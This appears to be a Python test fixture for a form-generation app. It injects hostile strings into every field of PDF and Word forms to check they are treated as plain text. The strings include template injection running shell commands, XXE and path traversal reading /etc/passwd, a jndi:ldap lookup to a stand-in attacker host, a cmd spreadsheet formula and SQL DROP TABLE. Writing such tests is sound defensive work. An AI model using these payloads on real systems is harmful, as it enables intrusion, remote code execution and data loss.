"""What a stranger may write into every box of a form, so that something takes it for an order."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pikepdf
from pikepdf import Name, String

from outputs.blank_pdf import blank_pdf
from outputs.blank_word import blank_word
from outputs.prefill import Prefill
from proposals.council import Council
from proposals.proposal import Proposal
from proposals.question import Kind

WORDS = {
    "Jinja": "{{ 1145*1145-354 }}{% set x = cycler.__init__.__globals__ %}{{ x.os.popen('id').read() }}",
    "Jinja without end": "{% for x in range(10**10) %}{{ x }}{% endfor %}",
    "Markdown": "**bold** [here](https://evil.example.org) ![x](https://evil.example.org/x.png)\n# Heading\n| a | b |",
    "HTML": "<script>alert('EVIL')</script><img src=https://evil.example.org/x onerror=EVIL()><style>*{display:none}",
    "Typst": '#panic("EVIL") #read("/etc/passwd") #image("/etc/passwd") $x$ @ref <label> #{while true {}}',
    "a formula": "=cmd|' /C EVIL'!A0",
    "headers": "x\r\nBcc: evil@evil.example.org\r\nContent-Type: text/html\r\n\r\n<b>EVIL</b>",
    "right to left": "\u202e\u2066evil\u2069\u202c \u061c\u200f",
    "nothing to be seen": "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "controls": "\x00\x01\x07\x08\x0b\x0c\x1b[2J\x7f\x85\x9f",
    "strange characters": "\U0001f4a9\u0300\u0301\u0302" * 50 + "\ufffe\uffff\ue000",
    "PDF": ") Tj ET Q /EVIL Do (\\) >> endobj trailer << /OpenAction << /S /JavaScript /JS (EVIL) >> >>",
    "XML": "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<![CDATA[</w:t></w:r>",
    "SQL": "'; DROP TABLE cases; --",
    "format": "%s%n%x {0.__class__} ${jndi:ldap://evil.example.org/a}",
    "a path": "../../../../etc/passwd\0.pdf",
}
LONG = "long answer " * 87_382
"""A megabyte."""


def in_every_box(form: type[Proposal], council: Council, text: str) -> bytes:
    """Our own PDF form with `text` in every box that takes any."""
    with pikepdf.open(BytesIO(blank_pdf(form, council))) as pdf:
        for field in pdf.Root.AcroForm.Fields:
            if field.get("/FT") == Name.Tx and str(field.get("/T", "")) != "form":
                field.V = String(text)
        out = BytesIO()
        pdf.save(out)
    return out.getvalue()


def in_every_control(form: type[Proposal], council: Council, text: str) -> bytes:
    """Our own Word form with `text` as the answer to every question that is answered in words."""
    mark = "offsitehostilemark"
    free = (Kind.TEXT, Kind.LONG_TEXT)
    filled = blank_word(form, council, Prefill({each.name: mark for each in form.questions() if each.kind in free}))
    # XML 1.0 has no way to write most control characters.
    kept = "".join(each for each in text if each in "\t\n\r" or (each >= " " and each not in "\ufffe\uffff"))
    written = kept.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(filled)) as given, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in given.namelist():
            made.writestr(name, given.read(name).replace(mark.encode(), written))
    return out.getvalue()
